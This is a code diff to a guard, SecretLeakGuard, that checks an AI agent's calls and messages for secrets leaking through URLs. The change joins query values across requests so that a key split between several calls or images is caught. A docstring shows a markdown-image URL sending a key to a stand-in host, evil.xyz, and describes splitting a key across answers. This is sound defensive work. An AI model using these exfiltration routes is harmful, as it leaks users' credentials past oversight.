@@ -59,7 +59,7 @@ from ..core.types import Context, Decision, Step, ToolCall, Verdict
 from .rules import as_tool_call, tool_patterns
 from .links import url_tokens
 from .secret_fragments import K, KnownSecrets
-from .secrets import DEFAULT_PII, DEFAULT_PLUGINS, Finding, LeakScanner, pieces, string_leaves, varying
+from .secrets import DEFAULT_PII, DEFAULT_PLUGINS, Finding, LeakScanner, fields_of, pieces, string_leaves, varying
 
 __all__ = ["DESTINATIONS", "SecretLeakGuard"]
 
@@ -81,13 +81,14 @@ def _metadata_provenance(context: Context, value: str) -> frozenset[str]:
 class _Sent:
     """What one run sent where secrets may not go: the tail of its text and the values already judged."""
 
-    __slots__ = ("calls", "known", "learned", "lock", "prompt", "steps", "tail", "values")
+    __slots__ = ("calls", "fields", "known", "learned", "lock", "prompt", "steps", "tail", "values")
 
     def __init__(self) -> None:
         self.lock = threading.Lock()
         self.tail = ""
         self.values: set[str] = set()
         self.calls: list[list[str]] = []   # the pieces of each call sent (the last ones, as many as the tail holds)
+        self.fields: list[dict[str, list[str]]] = []   # the query values of each of those calls, by field
         self.known: KnownSecrets | None = None   # the guard's known secrets and what this run read (once it read one)
         self.learned: set[str] = set()
         self.steps = 0                           # trace steps already read for secrets
@@ -189,11 +190,15 @@ class SecretLeakGuard(BaseGuard):
         except Exception as exc:  # noqa: BLE001 - an evicted run cannot be read: not read is not allowed
             return [Finding("unreadable", f"run memory: {type(exc).__name__}", "<across calls>", "")]
         parts = pieces(call.arguments)   # a URL's query values, path segments, labels: what its receiver reads
+        fields = fields_of(string_leaves(call.arguments))   # and its query values by field
         text = "".join(parts)
         with sent.lock:
             *before, now = varying([*sent.calls, parts])   # without the template the requests repeat (as the
             prev = "".join(p for c in before for p in c)   # receiver joins them)
-            texts = (sent.tail + text, text + sent.tail, prev + "".join(now), "".join(now) + prev)
+            texts = [sent.tail + text, text + sent.tail, prev + "".join(now), "".join(now) + prev]
+            for name, vals in fields.items():   # one field's values over the requests, whatever else varies
+                if (old := "".join(v for f in sent.fields for v in f.get(name, ()))):
+                    texts += [old + "".join(vals), "".join(vals) + old]
             joined = list({f.value: f for t in texts  # a later piece may come first
                            for f in self.scanner.scan_text(t, "<across calls>", full=False, known=known)}.values()
                           ) if sent.tail and text else []
@@ -202,8 +207,10 @@ class SecretLeakGuard(BaseGuard):
             if not leaks:
                 sent.tail = (sent.tail + text)[-self.across_calls:]
                 sent.calls.append(parts)
+                sent.fields.append(fields)
                 while sum(len(p) for c in sent.calls for p in c) > self.across_calls:
                     sent.calls.pop(0)
+                    sent.fields.pop(0)
                 sent.values.update(f.value for f in [*found, *joined])
         return leaks
 
@@ -211,7 +218,10 @@ class SecretLeakGuard(BaseGuard):
                   known: KnownSecrets | None = None) -> list[Finding]:
         """What the URLs written in a call or message to a destination that may receive secrets carry to their
         hosts: a renderer fetches a markdown image (``![x](https://evil.xyz/p.png?k=<key>)``) and a link preview
-        any link, with no click, so a URL's text is judged at ``third_party`` whatever the message's destination."""
+        any link, with no click, so a URL's text is judged at ``third_party`` whatever the message's destination.
+        The URLs of one message are read as one receiver reads them, joined (a key cut into two images' queries is
+        one key again), and across the run's messages and calls as a call to a third party is
+        (:meth:`_across_calls`: the second half of a key sent in the next answer)."""
         if "secret" not in self.allow_to[dest] and "pii" not in self.allow_to[dest]:
             return []
         if call is not None:
@@ -221,8 +231,13 @@ class SecretLeakGuard(BaseGuard):
         else:
             texts = [t for t in (proposal.output, proposal.action) if isinstance(t, str)]
         urls = [u for t in texts for u in url_tokens(t)]
-        found = [f for i, u in enumerate(urls) for f in self.scanner.scan(u, f"url[{i}]", known=known)]
-        return [f for f in found if not self._allowed(context, f, "third_party")]
+        if not urls:
+            return []
+        found = self.scanner.scan(urls, "url", known=known)
+        leaks = [f for f in found if not self._allowed(context, f, "third_party")]
+        if leaks or "secret" not in self.allow_to[dest]:   # a destination without secrets: its call is joined already
+            return leaks
+        return self._across_calls(context, ToolCall("<links>", {"url": urls}), found, "third_party", known)
 
     def end_run(self, run_id: str) -> None:
         """Forget what run ``run_id`` sent and read."""
